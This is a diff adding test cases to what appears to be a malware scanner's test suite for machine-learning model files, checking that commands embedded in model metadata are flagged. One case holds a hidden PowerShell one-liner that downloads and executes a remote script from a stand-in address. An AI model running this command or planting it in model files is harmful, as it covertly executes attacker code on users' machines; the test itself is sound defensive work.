@@ -91,7 +91,19 @@ def case(build: Callable[[], bytes], verdict: Verdict, name: str = "model.mlmode
 
 NETWORK = layer("dense", INNER) + layer("relu", data(130, data(10)))
 
+
+def described(key: str, value: str) -> bytes:
+    """Return a network with an entry that its author made in the metadata."""
+    metadata = data(100, data(1, "A model"), data(4, "MIT"), data(100, data(1, key), data(2, value)))
+    return number(1, 4) + data(2, metadata) + data(500, NETWORK)
+
+
 CASES = {
+    "command_in_metadata": case(
+        lambda: described("postprocess", 'powershell -nop -w hidden -c "iex (iwr http://192.0.2.1/a.ps1)"'),
+        Verdict.MALICIOUS,
+    ),
+    "benign_metadata": case(lambda: described("postprocess", "python3 postprocess.py"), Verdict.CLEAN),
     "benign": case(lambda: model(500, NETWORK), Verdict.CLEAN),
     "benign_other_name": case(lambda: model(403, NETWORK), Verdict.CLEAN, "model.bin"),
     "benign_program": case(program, Verdict.CLEAN),
